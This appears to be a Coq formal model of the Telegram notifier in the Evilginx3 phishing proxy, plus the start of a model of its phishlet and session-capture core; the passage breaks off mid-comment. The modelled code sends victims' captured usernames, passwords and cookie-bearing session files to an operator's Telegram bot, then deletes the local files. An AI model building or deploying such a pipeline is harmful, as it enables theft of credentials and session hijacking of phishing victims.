(** * Evilginx3: the Telegram notifier (core/telegram.go) and the proxy core

    The notifier is embedded from its Go source: the bot is a record, the
    buffered channel [msgQueue] is a capacity together with the list of
    pending messages, goroutines are program counters that a scheduler steps
    one at a time, and everything outside the process (the HTTP client, the
    file system, the logger) is an explicit world that the operations thread
    through.  The rewrite engine and the session state machine are not part
    of core/telegram.go; they are modelled from the design document. *)

From Stdlib Require Import String Ascii ZArith List Bool Lia DecimalString.
From stdpp Require Import gmap strings list.
Import ListNotations.

Local Open Scope string_scope.

(** ** Go runtime and standard library pieces used by the notifier *)

Module Go.

(** The text of a Go [error] value; [None] at type [option error] is [nil]. *)
Definition error : Type := string.

(** "\n" *)
Definition LF : string := String (ascii_of_nat 10) EmptyString.

(** The verb [%d] of [fmt.Sprintf] on an [int]. *)
Definition itoa (n : Z) : string := NilZero.string_of_int (Z.to_int n).

(** [strings.NewReplacer] on pairs whose old strings are all one byte long
    and whose new strings are not: the replacer is a table from byte to
    replacement.  The pairs are entered from the last to the first, so the
    first pair given for a byte is the one that stays. *)
Definition byteStringReplacer : Type := ascii -> option string.

Definition NewReplacer (oldnew : list (ascii * string)) : byteStringReplacer :=
  fold_right
    (fun (on : ascii * string) (replacements : byteStringReplacer) (b : ascii) =>
       if Ascii.eqb b (fst on) then Some (snd on) else replacements b)
    (fun _ => None) oldnew.

(** [Replacer.Replace]: every byte with a table entry is replaced by the
    entry, every other byte is copied. *)
Fixpoint Replace (r : byteStringReplacer) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String b rest =>
      match r b with
      | Some new => new ++ Replace r rest
      | None => String b (Replace r rest)
      end
  end.

(** A buffered channel: [make(chan T, cap)].  [buf] holds the pending
    elements, oldest first. *)
Record chan (T : Type) : Type := mkChan { cap : nat; buf : list T }.
Arguments mkChan {T} _ _.
Arguments cap {T} _.
Arguments buf {T} _.

Definition make {T : Type} (n : nat) : chan T := mkChan n [].

(** [len(ch)] *)
Definition len {T : Type} (ch : chan T) : nat := length (buf ch).

(** A send that is ready: the new channel, or [None] when the buffer is
    full (a plain send would block, a [select] takes another case). *)
Definition send {T : Type} (x : T) (ch : chan T) : option (chan T) :=
  if (len ch <? cap ch)%nat then Some (mkChan (cap ch) (buf ch ++ [x])) else None.

(** A receive that is ready: the element and the new channel, or [None]
    when the buffer is empty. *)
Definition recv {T : Type} (ch : chan T) : option (T * chan T) :=
  match buf ch with
  | [] => None
  | x :: rest => Some (x, mkChan (cap ch) rest)
  end.

End Go.

(** ** core/telegram.go *)

Module Telegram.
Import Go.

Record TelegramMessage : Type := mkMessage {
  ChatID : string;
  Text : string;
  ParseMode : string
}.

(** Where a goroutine running [messageWorker] stands: at the [select], at
    the test [len(t.msgQueue) > 0] of the drain loop, at the receive inside
    that loop, or at the [return] behind the loop, with the deferred
    [t.wg.Done()] still to run.  A worker that has run it is removed from
    the bot. *)
Inductive WorkerPc : Type := AtSelect | DrainCheck | DrainRecv | Returning.

(** [msgQueue] carries pointers, so an element may be [nil] ([None]).
    [stopChan] is unbuffered and only ever closed: [true] once closed.
    [workers] lists the live worker goroutines; the counter of [wg] is its
    length.  The [client] field is part of the world below. *)
Record TelegramBot : Type := mkBot {
  botToken : string;
  chatID : string;
  enabled : bool;
  msgQueue : chan (option TelegramMessage);
  stopChan : bool;
  workers : list WorkerPc
}.

Definition queueCapacity : nat := 100.

Definition NewTelegramBot : TelegramBot :=
  {| botToken := ""; chatID := ""; enabled := false;
     msgQueue := make queueCapacity; stopChan := false; workers := [] |}.

(** [!t.enabled || t.botToken == "" || t.chatID == ""] *)
Definition notConfigured (t : TelegramBot) : bool :=
  negb (enabled t) || String.eqb (botToken t) "" || String.eqb (chatID t) "".

Definition IsEnabled (t : TelegramBot) : bool :=
  enabled t && negb (String.eqb (botToken t) "") && negb (String.eqb (chatID t) "").

Definition SetConfig (token chat : string) (on : bool) (t : TelegramBot) : TelegramBot :=
  {| botToken := token; chatID := chat; enabled := on;
     msgQueue := msgQueue t; stopChan := stopChan t; workers := workers t |}.

Definition setQueue (q : chan (option TelegramMessage)) (t : TelegramBot) : TelegramBot :=
  {| botToken := botToken t; chatID := chatID t; enabled := enabled t;
     msgQueue := q; stopChan := stopChan t; workers := workers t |}.

Definition setWorkers (ws : list WorkerPc) (t : TelegramBot) : TelegramBot :=
  {| botToken := botToken t; chatID := chatID t; enabled := enabled t;
     msgQueue := msgQueue t; stopChan := stopChan t; workers := ws |}.

Definition closeStop (t : TelegramBot) : TelegramBot :=
  {| botToken := botToken t; chatID := chatID t; enabled := enabled t;
     msgQueue := msgQueue t; stopChan := true; workers := workers t |}.

(** *** escapeMarkdown *)

Definition escapePairs : list (ascii * string) :=
  [ ("_"%char, "\_"); ("*"%char, "\*"); ("["%char, "\["); ("]"%char, "\]");
    ("("%char, "\("); (")"%char, "\)"); ("~"%char, "\~"); ("`"%char, "\`");
    (">"%char, "\>"); ("#"%char, "\#"); ("+"%char, "\+"); ("-"%char, "\-");
    ("="%char, "\="); ("|"%char, "\|"); ("{"%char, "\{"); ("}"%char, "\}");
    ("."%char, "\."); ("!"%char, "\!") ].

Definition escapeMarkdown (text : string) : string :=
  Replace (NewReplacer escapePairs) text.

(** *** Message texts

    [now] stands for [time.Now().Format(layout)], read from the clock by
    the caller. *)

Definition credentialsText (sessionID : Z)
    (username password ip userAgent domain now : string) : string :=
  "🎯 *Captured Session " ++ itoa sessionID ++ "*" ++ LF ++ LF ++
  "📧 *Username:* `" ++ escapeMarkdown username ++ "`" ++ LF ++
  "🔑 *Password:* `" ++ escapeMarkdown password ++ "`" ++ LF ++
  "🌐 *IP:* `" ++ ip ++ "`" ++ LF ++
  "📱 *User-Agent:* " ++ escapeMarkdown userAgent ++ LF ++
  "🌐 *Domain:* " ++ domain ++ LF ++
  "⏰ *Time:* " ++ now.

Definition updateEmoji (updateType : string) : string :=
  if String.eqb updateType "username" then "📧"
  else if String.eqb updateType "password" then "🔑"
  else "📝".

Definition updateField (updateType : string) : string :=
  if String.eqb updateType "username" then "Username"
  else if String.eqb updateType "password" then "Password"
  else updateType.

Definition sessionUpdateText (sessionID : Z) (updateType value ip now : string) : string :=
  "🔔 *Session " ++ itoa sessionID ++ " Update*" ++ LF ++ LF ++
  updateEmoji updateType ++ " *" ++ updateField updateType ++ ":* `" ++
    escapeMarkdown value ++ "`" ++ LF ++
  "🌐 *IP:* `" ++ ip ++ "`" ++ LF ++
  "⏰ *Time:* " ++ now.

Definition sessionFileCaption (sessionID : Z) (username password ip domain : string) : string :=
  "🎯 *Complete Session Capture " ++ itoa sessionID ++ "*" ++ LF ++ LF ++
  "📧 *Username:* `" ++ escapeMarkdown username ++ "`" ++ LF ++
  "🔑 *Password:* `" ++ escapeMarkdown password ++ "`" ++ LF ++
  "🌐 *IP:* `" ++ ip ++ "`" ++ LF ++
  "🌐 *Domain:* " ++ domain ++ LF ++ LF ++
  "📎 *Attached:* Full session data with cookies".

Definition testText : string :=
  "✅ *Evilginx2 Telegram Integration*" ++ LF ++ LF ++
  "This is a test message to verify your Telegram bot configuration." ++ LF ++
  "If you receive this message, your bot is properly configured!".

(** *** The world outside the bot

    A request as it is handed to the HTTP client: the JSON body is kept as
    the message it encodes, the multipart body as its parts. *)

Inductive FormPart : Type :=
| FormFile (fieldname filename content : string)
| FormField (fieldname value : string).

Inductive Payload : Type :=
| JSON (msg : TelegramMessage)
| Multipart (parts : list FormPart).

Record Request : Type := mkRequest {
  url : string;
  contentType : string;
  payload : Payload
}.

(** What the library calls answer.  Each fallible call returns the error it
    reports, if any; [client_Do] is given the number of requests made
    before, so that the server may answer the same request differently over
    time; it returns the error of the transport or the status code.
    [os_Open] is the error of [os.Open] for a path without a file;
    [os_Remove_err] is the error of [os.Remove] for a path, if the file
    system refuses to remove the file there (a directory that cannot be
    written, a read-only file system, a file that is still open on
    Windows). *)
Record Env : Type := mkEnv {
  json_Marshal : TelegramMessage -> option error;
  http_NewRequest : string -> option error;
  client_Do : nat -> Request -> error + Z;
  os_Open : string -> error;
  os_Remove_err : string -> option error;
  filepath_Base : string -> string;
  CreateFormFile : string -> string -> option error;
  io_Copy : string -> option error;
  WriteField : string -> string -> option error;
  writer_Close : option error;
  FormDataContentType : string
}.

(** [files] maps a path to the content of the file there; [posted] lists
    the requests handed to [client.Do], [sendCalls] the arguments of the
    calls of [sendMessage], [warnings] the lines of [log.Warning]; all three
    oldest first. *)
Record World : Type := mkWorld {
  files : gmap string string;
  posted : list Request;
  sendCalls : list TelegramMessage;
  warnings : list string
}.

Definition setFiles (fs : gmap string string) (w : World) : World :=
  {| files := fs; posted := posted w; sendCalls := sendCalls w; warnings := warnings w |}.

Definition logPost (r : Request) (w : World) : World :=
  {| files := files w; posted := posted w ++ [r]; sendCalls := sendCalls w;
     warnings := warnings w |}.

Definition logCall (m : TelegramMessage) (w : World) : World :=
  {| files := files w; posted := posted w; sendCalls := sendCalls w ++ [m];
     warnings := warnings w |}.

Definition logWarning (line : string) (w : World) : World :=
  {| files := files w; posted := posted w; sendCalls := sendCalls w;
     warnings := warnings w ++ [line] |}.

Record State : Type := mkState { bot : TelegramBot; world : World }.

Definition errNotConfigured : error := "telegram bot not configured".

Definition errStatus (code : Z) : error :=
  "telegram API returned status code: " ++ itoa code.

Definition StatusOK : Z := 200.

Definition queueFullWarning : string :=
  "telegram: message queue is full, dropping message".

Section WithEnv.

Variable E : Env.

(** [resp, err := t.client.Do(req)] followed by the test of the status. *)
Definition doRequest (req : Request) (w : World) : option error * World :=
  match client_Do E (length (posted w)) req with
  | inl err => (Some err, logPost req w)
  | inr code =>
      if (code =? StatusOK)%Z then (None, logPost req w)
      else (Some (errStatus code), logPost req w)
  end.

Definition sendMessage (t : TelegramBot) (msg : TelegramMessage) (w : World)
  : option error * World :=
  let w := logCall msg w in
  if notConfigured t then (Some errNotConfigured, w)
  else
    let url := "https://api.telegram.org/bot" ++ botToken t ++ "/sendMessage" in
    match json_Marshal E msg with
    | Some err => (Some err, w)
    | None =>
        match http_NewRequest E url with
        | Some err => (Some err, w)
        | None => doRequest (mkRequest url "application/json" (JSON msg)) w
        end
    end.

(** [select { case t.msgQueue <- msg: default: log.Warning(...) }] *)
Definition offer (msg : TelegramMessage) (s : State) : State :=
  match send (Some msg) (msgQueue (bot s)) with
  | Some q => mkState (setQueue q (bot s)) (world s)
  | None => mkState (bot s) (logWarning queueFullWarning (world s))
  end.

Definition SendCredentials (sessionID : Z)
    (username password ip userAgent domain now : string) (s : State) : State :=
  let t := bot s in
  if notConfigured t then s
  else
    let message := credentialsText sessionID username password ip userAgent domain now in
    offer {| ChatID := chatID t; Text := message; ParseMode := "Markdown" |} s.

Definition SendSessionUpdate (sessionID : Z)
    (updateType value ip now : string) (s : State) : State :=
  let t := bot s in
  if notConfigured t then s
  else
    let message := sessionUpdateText sessionID updateType value ip now in
    offer {| ChatID := chatID t; Text := message; ParseMode := "Markdown" |} s.

Definition SendTestMessage (s : State) : option error * State :=
  let t := bot s in
  if String.eqb (botToken t) "" || String.eqb (chatID t) "" then (Some errNotConfigured, s)
  else
    let msg := {| ChatID := chatID t; Text := testText; ParseMode := "Markdown" |} in
    let (err, w) := sendMessage t msg (world s) in
    (err, mkState t w).

(** The fields written after the file part: the chat id, then the caption
    and the parse mode when a caption is given.  The result is the first
    error, or the parts written. *)
Definition writeFields (t : TelegramBot) (caption : string) : error + list FormPart :=
  match WriteField E "chat_id" (chatID t) with
  | Some err => inl err
  | None =>
      if String.eqb caption "" then inr [FormField "chat_id" (chatID t)]
      else
        match WriteField E "caption" caption with
        | Some err => inl err
        | None =>
            match WriteField E "parse_mode" "Markdown" with
            | Some err => inl err
            | None =>
                inr [FormField "chat_id" (chatID t); FormField "caption" caption;
                     FormField "parse_mode" "Markdown"]
            end
        end
  end.

(** [os.Remove(filePath)]: the file is removed unless the file system
    refuses; then the error is returned and the file stays. *)
Definition os_Remove (filePath : string) (w : World) : option error * World :=
  match os_Remove_err E filePath with
  | Some err => (Some err, w)
  | None => (None, setFiles (delete filePath (files w)) w)
  end.

(** [SendDocument]; the call [os.Remove(filePath)] behind the status test
    is a statement of its own, its error is dropped. *)
Definition SendDocument (t : TelegramBot) (filePath caption : string) (w : World)
  : option error * World :=
  if notConfigured t then (Some errNotConfigured, w)
  else
    let url := "https://api.telegram.org/bot" ++ botToken t ++ "/sendDocument" in
    match files w !! filePath with
    | None => (Some (os_Open E filePath), w)
    | Some content =>
        let name := filepath_Base E filePath in
        match CreateFormFile E "document" name with
        | Some err => (Some err, w)
        | None =>
            match io_Copy E content with
            | Some err => (Some err, w)
            | None =>
                match writeFields t caption with
                | inl err => (Some err, w)
                | inr fields =>
                    match writer_Close E with
                    | Some err => (Some err, w)
                    | None =>
                        match http_NewRequest E url with
                        | Some err => (Some err, w)
                        | None =>
                            let req := mkRequest url (FormDataContentType E)
                                         (Multipart (FormFile "document" name content :: fields)) in
                            match doRequest req w with
                            | (Some err, w') => (Some err, w')
                            | (None, w') => (None, snd (os_Remove filePath w'))
                            end
                        end
                    end
                end
            end
        end
    end.

(** [SendSessionFile] hands [SendDocument filePath caption] to a new
    goroutine; the result is the pair of arguments of that call, if the
    bot is configured. *)
Definition SendSessionFile (sessionID : Z) (filePath username password ip domain : string)
    (t : TelegramBot) : option (string * string) :=
  if notConfigured t then None
  else Some (filePath, sessionFileCaption sessionID username password ip domain).

Definition Start (t : TelegramBot) : TelegramBot :=
  if notConfigured t then t else setWorkers (workers t ++ [AtSelect]) t.

(** The body of a received message: [if msg != nil { t.sendMessage(msg) }];
    the error of [sendMessage] is dropped. *)
Definition handle (t : TelegramBot) (msg : option TelegramMessage) (w : World) : World :=
  match msg with
  | Some m => snd (sendMessage t m w)
  | None => w
  end.

(** One step of worker [i].  At the [select] the worker receives when
    only the queue is ready, leaves for the drain loop when only the stop
    channel is ready, and follows [pickStop] when both are; with neither
    ready it is blocked and there is no step.  In the drain loop the test
    of [len] and the receive are separate steps, and so is the return
    behind the loop: what other goroutines do between the last test and
    [t.wg.Done()] is part of a run.  A receive and the call of
    [sendMessage] on the element received are one step; for a single worker
    this hides nothing, as no other goroutine calls [sendMessage] on a
    queue element, while the calls of two workers are recorded in the order
    of their receives only. *)
Definition messageWorker (i : nat) (pickStop : bool) (s : State) : option State :=
  let t := bot s in
  match workers t !! i with
  | None => None
  | Some AtSelect =>
      match recv (msgQueue t), stopChan t with
      | None, false => None
      | Some (msg, q), false =>
          Some (mkState (setQueue q t) (handle t msg (world s)))
      | Some (msg, q), true =>
          if pickStop then Some (mkState (setWorkers (<[i := DrainCheck]> (workers t)) t) (world s))
          else Some (mkState (setQueue q t) (handle t msg (world s)))
      | None, true =>
          Some (mkState (setWorkers (<[i := DrainCheck]> (workers t)) t) (world s))
      end
  | Some DrainCheck =>
      if (0 <? len (msgQueue t))%nat
      then Some (mkState (setWorkers (<[i := DrainRecv]> (workers t)) t) (world s))
      else Some (mkState (setWorkers (<[i := Returning]> (workers t)) t) (world s))
  | Some DrainRecv =>
      match recv (msgQueue t) with
      | None => None
      | Some (msg, q) =>
          Some (mkState (setWorkers (<[i := DrainCheck]> (workers t)) (setQueue q t))
                        (handle t msg (world s)))
      end
  | Some Returning =>
      Some (mkState (setWorkers (delete i (workers t)) t) (world s))
  end.

(** What the goroutines of the process may do next. *)
Inductive Action : Type :=
| ASendCredentials (sessionID : Z) (username password ip userAgent domain now : string)
| ASendSessionUpdate (sessionID : Z) (updateType value ip now : string)
| ASetConfig (token chat : string) (on : bool)
| AStart
| ACloseStop
| AWorker (i : nat) (pickStop : bool).

(** [exec a s] is the state after [a], or [None] when [a] cannot be taken
    in [s]: a blocked worker, or the panic of closing [stopChan] twice. *)
Definition exec (a : Action) (s : State) : option State :=
  match a with
  | ASendCredentials sessionID username password ip userAgent domain now =>
      Some (SendCredentials sessionID username password ip userAgent domain now s)
  | ASendSessionUpdate sessionID updateType value ip now =>
      Some (SendSessionUpdate sessionID updateType value ip now s)
  | ASetConfig token chat on => Some (mkState (SetConfig token chat on (bot s)) (world s))
  | AStart => Some (mkState (Start (bot s)) (world s))
  | ACloseStop =>
      if stopChan (bot s) then None else Some (mkState (closeStop (bot s)) (world s))
  | AWorker i pickStop => messageWorker i pickStop s
  end.

Fixpoint run (acts : list Action) (s : State) : option State :=
  match acts with
  | [] => Some s
  | a :: rest =>
      match exec a s with
      | Some s' => run rest s'
      | None => None
      end
  end.

(** [t.wg.Wait()]: the caller sleeps while the scheduler takes the steps
    of [sched], and wakes up as soon as no worker is left. *)
Fixpoint wgWait (sched : list Action) (s : State) : option State :=
  match workers (bot s) with
  | [] => Some s
  | _ :: _ =>
      match sched with
      | [] => None
      | a :: rest =>
          match exec a s with
          | Some s' => wgWait rest s'
          | None => None
          end
      end
  end.

(** [Stop]: [close(t.stopChan)], then [t.wg.Wait()].  [None] when the
    schedule ends, or gets stuck, before the wait is over. *)
Definition Stop (sched : list Action) (s : State) : option State :=
  match exec ACloseStop s with
  | Some s' => wgWait sched s'
  | None => None
  end.

End WithEnv.

Definition isWorkerStep (a : Action) : Prop :=
  match a with AWorker _ _ => True | _ => False end.

(** The schedule that steps worker 0 [n] times, the [k]-th time with the
    choice [pick k] at the [select]. *)
Definition workerOnly (pick : nat -> bool) (n : nat) : list Action :=
  map (fun k => AWorker 0 (pick k)) (seq 0 n).

Definition isEmission (a : Action) : Prop :=
  match a with
  | ASendCredentials _ _ _ _ _ _ _ | ASendSessionUpdate _ _ _ _ _ => True
  | _ => False
  end.

(** The message that a capture event stands for on bot [t]. *)
Definition eventMessage (a : Action) (t : TelegramBot) : option TelegramMessage :=
  match a with
  | ASendCredentials sessionID username password ip userAgent domain now =>
      Some (mkMessage (chatID t)
              (credentialsText sessionID username password ip userAgent domain now)
              "Markdown")
  | ASendSessionUpdate sessionID updateType value ip now =>
      Some (mkMessage (chatID t) (sessionUpdateText sessionID updateType value ip now)
              "Markdown")
  | _ => None
  end.

(** The messages of the queue, the [nil] elements left out. *)
Definition pending (t : TelegramBot) : list TelegramMessage :=
  omap id (buf (msgQueue t)).

(** The messages handed to [sendMessage] so far, followed by those still
    in the queue. *)
Definition known (s : State) : list TelegramMessage :=
  sendCalls (world s) ++ pending (bot s).

(** A bound on the steps a lone worker still takes once the stop channel
    is closed, from its place and the length of the queue. *)
Definition drainSteps (pc : WorkerPc) (n : nat) : nat :=
  match pc with
  | AtSelect => 2 * n + 3
  | DrainCheck => 2 * n + 2
  | DrainRecv => 2 * n + 1
  | Returning => 1
  end.

(** The queue never holds more than its capacity, and the capacity is the
    one it was made with. *)
Definition bounded (s : State) : Prop :=
  cap (msgQueue (bot s)) = queueCapacity /\
  (len (msgQueue (bot s)) <= cap (msgQueue (bot s)))%nat.


Definition emptyWorld : World :=
  {| files := ∅; posted := []; sendCalls := []; warnings := [] |}.

Definition initial : State := mkState NewTelegramBot emptyWorld.

(** *** escapeMarkdown, as described: the eighteen characters, each
    replaced by a backslash and itself. *)

Definition markdownSpecials : list ascii :=
  [ "_"; "*"; "["; "]"; "("; ")"; "~"; "`"; ">"; "#"; "+"; "-"; "="; "|"; "{"; "}";
    "."; "!" ]%char.

Definition escapeByte (b : ascii) : string :=
  if existsb (Ascii.eqb b) markdownSpecials
  then String "\"%char (String b EmptyString)
  else String b EmptyString.

Fixpoint escapeEach (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String b rest => escapeByte b ++ escapeEach rest
  end.

(** *** Sample data *)

Definition quietEnv : Env :=
  {| json_Marshal := fun _ => None;
     http_NewRequest := fun _ => None;
     client_Do := fun _ _ => inr StatusOK;
     os_Open := fun _ => "open: no such file or directory";
     os_Remove_err := fun _ => None;
     filepath_Base := fun p => p;
     CreateFormFile := fun _ _ => None;
     io_Copy := fun _ => None;
     WriteField := fun _ _ => None;
     writer_Close := None;
     FormDataContentType := "multipart/form-data" |}.

Definition sampleBot (q : list (option TelegramMessage)) (ws : list WorkerPc) : TelegramBot :=
  {| botToken := "123:abc"; chatID := "42"; enabled := true;
     msgQueue := mkChan queueCapacity q; stopChan := false; workers := ws |}.

Definition filler : TelegramMessage := mkMessage "42" "pending" "Markdown".

(** A configured bot with a running worker and one free slot left. *)
Definition busyState : State :=
  mkState (sampleBot (repeat (Some filler) 99) [AtSelect]) emptyWorld.

(** A configured bot with a running worker and a full queue. *)
Definition fullState : State :=
  mkState (sampleBot (repeat (Some filler) 100) [AtSelect]) emptyWorld.

Definition sampleEvent : Action :=
  ASendCredentials 1 "alice" "s3cret!" "10.0.0.1" "Mozilla/5.0" "example.com"
    "2024-01-02 03:04:05 UTC".

Definition sampleMessage : TelegramMessage :=
  mkMessage "42"
    (credentialsText 1 "alice" "s3cret!" "10.0.0.1" "Mozilla/5.0" "example.com"
       "2024-01-02 03:04:05 UTC")
    "Markdown".

(** A new bot is configured and started, one event is emitted and the
    worker takes it. *)
Definition sampleRun : list Action :=
  [ASetConfig "123:abc" "42" true; AStart; sampleEvent; AWorker 0 false].

Definition sampleAfter : State :=
  match run quietEnv sampleRun initial with
  | Some s => s
  | None => initial
  end.

(** Token and chat id are set, the bot is switched off. *)
Definition disabledState : State :=
  mkState (SetConfig "123:abc" "42" false NewTelegramBot) emptyWorld.

(** *** GetConfig

    [TelegramConfig] is declared in another file of the package; the
    literal in [GetConfig] shows its three fields. *)

Record TelegramConfig : Type := mkConfig {
  BotToken : string;
  ChatID' : string;
  Enabled : bool
}.

Definition GetConfig (t : TelegramBot) : TelegramConfig :=
  {| BotToken := botToken t; ChatID' := chatID t; Enabled := enabled t |}.

(** *** Measures used in the statements below *)

Definition isSpecial (b : ascii) : bool := existsb (Ascii.eqb b) markdownSpecials.

(** The number of bytes of [s] that [escapeMarkdown] escapes. *)
Fixpoint countSpecials (s : string) : nat :=
  match s with
  | EmptyString => 0
  | String b rest => (if isSpecial b then 1 else 0) + countSpecials rest
  end.

Definition isEmissionb (a : Action) : bool :=
  match a with
  | ASendCredentials _ _ _ _ _ _ _ | ASendSessionUpdate _ _ _ _ _ => true
  | _ => false
  end.

(** The number of capture events in a run. *)
Definition emissions (acts : list Action) : nat := length (List.filter isEmissionb acts).

Definition isSetConfig (a : Action) : Prop :=
  match a with ASetConfig _ _ _ => True | _ => False end.

Definition isStart (a : Action) : Prop :=
  match a with AStart => True | _ => False end.

(** A queue element as the emissions of a configured bot make them: not
    [nil], parse mode Markdown, a chat id. *)
Definition wellFormed (m : option TelegramMessage) : Prop :=
  exists msg, m = Some msg /\ ParseMode msg = "Markdown" /\ ChatID msg <> "".

(** Every element of the queue is as the emissions make them. *)
Definition queueWellFormed (s : State) : Prop :=
  Forall wellFormed (buf (msgQueue (bot s))).

(** The address that [sendMessage] posts to. *)
Definition sendMessageURL (t : TelegramBot) : string :=
  "https://api.telegram.org/bot" ++ botToken t ++ "/sendMessage".

Definition sendDocumentURL (t : TelegramBot) : string :=
  "https://api.telegram.org/bot" ++ botToken t ++ "/sendDocument".

(** The fields that [SendDocument] writes behind the file part. *)
Definition expectedFields (t : TelegramBot) (caption : string) : list FormPart :=
  if String.eqb caption ""
  then [FormField "chat_id" (chatID t)]
  else [FormField "chat_id" (chatID t); FormField "caption" caption;
        FormField "parse_mode" "Markdown"].

(** What a step of worker [i] does to the bot, and the queue element it
    takes, if any; the world is not looked at. *)
Definition workerEffect (i : nat) (pickStop : bool) (t : TelegramBot)
  : option (TelegramBot * option (option TelegramMessage)) :=
  match workers t !! i with
  | None => None
  | Some AtSelect =>
      match recv (msgQueue t), stopChan t with
      | None, false => None
      | Some (msg, q), false => Some (setQueue q t, Some msg)
      | Some (msg, q), true =>
          if pickStop then Some (setWorkers (<[i := DrainCheck]> (workers t)) t, None)
          else Some (setQueue q t, Some msg)
      | None, true => Some (setWorkers (<[i := DrainCheck]> (workers t)) t, None)
      end
  | Some DrainCheck =>
      if (0 <? len (msgQueue t))%nat
      then Some (setWorkers (<[i := DrainRecv]> (workers t)) t, None)
      else Some (setWorkers (<[i := Returning]> (workers t)) t, None)
  | Some DrainRecv =>
      match recv (msgQueue t) with
      | None => None
      | Some (msg, q) =>
          Some (setWorkers (<[i := DrainCheck]> (workers t)) (setQueue q t), Some msg)
      end
  | Some Returning => Some (setWorkers (delete i (workers t)) t, None)
  end.

(** The request that [sendMessage] makes for a message. *)
Definition messageRequest (t : TelegramBot) (msg : TelegramMessage) : Request :=
  mkRequest (sendMessageURL t) "application/json" (JSON msg).

(** What of a state does not depend on the answers of the server. *)
Definition answerFree (s : State) : TelegramBot * gmap string string *
                                    list TelegramMessage * list string :=
  (bot s, files (world s), sendCalls (world s), warnings (world s)).

(** The request that [SendDocument] makes for a file with the given
    content and the form fields written behind it. *)
Definition documentRequest (E : Env) (t : TelegramBot) (filePath content : string)
    (fields : list FormPart) : Request :=
  mkRequest (sendDocumentURL t) (FormDataContentType E)
    (Multipart (FormFile "document" (filepath_Base E filePath) content :: fields)).

(** At most one worker goroutine is alive. *)
Definition loneWorker (t : TelegramBot) : Prop := (length (workers t) <= 1)%nat.

(** An environment whose file system refuses to remove files. *)
Definition stickyEnv : Env :=
  {| json_Marshal := fun _ => None;
     http_NewRequest := fun _ => None;
     client_Do := fun _ _ => inr StatusOK;
     os_Open := fun _ => "open: no such file or directory";
     os_Remove_err := fun _ => Some "remove: permission denied";
     filepath_Base := fun p => p;
     CreateFormFile := fun _ _ => None;
     io_Copy := fun _ => None;
     WriteField := fun _ _ => None;
     writer_Close := None;
     FormDataContentType := "multipart/form-data" |}.

(** A configured bot with a running worker and an empty queue. *)
Definition startedState : State :=
  mkState (sampleBot [] [AtSelect]) emptyWorld.

(** What happens beside a [Stop] on [startedState]: the worker leaves its
    [select] for the drain loop and finds the queue empty; then an event is
    emitted; then the worker returns. *)
Definition lateEvent : list Action :=
  [AWorker 0 true; AWorker 0 false; sampleEvent; AWorker 0 false].

(** An environment whose server refuses every request. *)
Definition refusingEnv : Env :=
  {| json_Marshal := fun _ => None;
     http_NewRequest := fun _ => None;
     client_Do := fun _ _ => inr 403%Z;
     os_Open := fun _ => "open: no such file or directory";
     os_Remove_err := fun _ => None;
     filepath_Base := fun p => p;
     CreateFormFile := fun _ _ => None;
     io_Copy := fun _ => None;
     WriteField := fun _ _ => None;
     writer_Close := None;
     FormDataContentType := "multipart/form-data" |}.

(** A world with one session file on disk. *)
Definition fileWorld : World :=
  setFiles (<["/tmp/session_1.json" := "{}"]> ∅) emptyWorld.

(** A configured bot that was never started, two messages waiting. *)
Definition idleState : State :=
  mkState (sampleBot [Some filler; Some filler] []) emptyWorld.

(** [Start] is called twice, one event is emitted, the stop channel is
    closed, both workers pass the test of the drain loop, and the first one
    takes the only message, finds the queue empty and returns. *)
Definition twoWorkerRun : list Action :=
  [ ASetConfig "123:abc" "42" true; AStart; AStart; sampleEvent; ACloseStop;
    AWorker 0 true; AWorker 1 true; AWorker 0 false; AWorker 1 false;
    AWorker 0 false; AWorker 0 false; AWorker 0 false ].

(** A bot that was switched off with a message waiting and its worker
    running, and the state after the worker took the message. *)
Definition mutedState : State :=
  mkState (SetConfig "123:abc" "42" false (sampleBot [Some filler] [AtSelect])) emptyWorld.

Definition mutedAfter : State :=
  match run quietEnv [AWorker 0 false] mutedState with
  | Some s => s
  | None => mutedState
  end.

(** [busyState] after one step of its worker, the server refusing. *)
Definition busyAfter : State :=
  match run refusingEnv [AWorker 0 false] busyState with
  | Some s => s
  | None => busyState
  end.

(** The state after [twoWorkerRun]. *)
Definition stuckState : State :=
  match run quietEnv twoWorkerRun initial with
  | Some s => s
  | None => initial
  end.

End Telegram.

(** ** The proxy core of the design document

    The rewrite engine and the session-capture state machine are described
    by the design document only; none of their code is in core/telegram.go. *)

Module Core.

(** Modelled from the spec: one entry of [proxyHosts] (section 3); the
    phishlet code is missing. *)
Record ProxyHost : Type := mkProxyHost {
  phishHost : string;
  origHost : string;
  handleSession : bool;
  isLanding : bool;
  autoFilter : bool
}.

(** Modelled from the spec: one entry of [authTokens] (section 3); the
    phishlet code is missing. *)
Record AuthToken : Type := mkAuthToken {
  hostPattern : string;
  cookieNamePattern : string;
  isOptional : bool
}.

(** Modelled from the spec: a captured cookie (section 3); the session code
    is missing. *)
Record Cookie : Type := mkCookie {
  name : string;
  value : string;
  domain : string;
  path : string;
  httpOnly : bool;
  secure : bool;
  expiry : Z
}.

(** Modelled from the spec: the types of credential fields (section 3); the
    phishlet code is missing. *)
Inductive FieldType : Type := username | password | custom.

(** Modelled from the spec: the parts of a phishlet that rewriting and
    capture read (section 3); the phishlet code is missing. *)
Record Phishlet : Type := mkPhishlet {
  proxyHosts : list ProxyHost;
  authTokens : list AuthToken;
  credentialFields : list FieldType
}.

(** *** Phishlet model (section 4.2) *)

(** Modelled from the spec: [resolvePhishedHost(origHost)] of the missing
    phishlet model, the phished host of the first proxy host that mirrors
    [orig]. *)
Definition resolvePhishedHost (hosts : list ProxyHost) (orig : string) : option string :=
  option_map phishHost (find (fun ph => String.eqb (origHost ph) orig) hosts).

(** Modelled from the spec: [resolveRealHost(phishedHost)] of the missing
    phishlet model. *)
Definition resolveRealHost (hosts : list ProxyHost) (phished : string) : option string :=
  option_map origHost (find (fun ph => String.eqb (phishHost ph) phished) hosts).

(** No string occurs twice. *)
Fixpoint uniqueb (l : list string) : bool :=
  match l with
  | [] => true
  | x :: rest => negb (existsb (String.eqb x) rest) && uniqueb rest
  end.

(** Modelled from the spec: [host] is a subdomain of the base domain, a
    label followed by a dot and the base; the validation code is missing. *)
Definition isSubdomainOf (base host : string) : bool :=
  let tail := "." ++ base in
  (String.length tail <? String.length host)%nat &&
  String.eqb (substring (String.length host - String.length tail) (String.length tail) host)
             tail.

(** Modelled from the spec: the invariant of [proxyHosts] (section 3) that
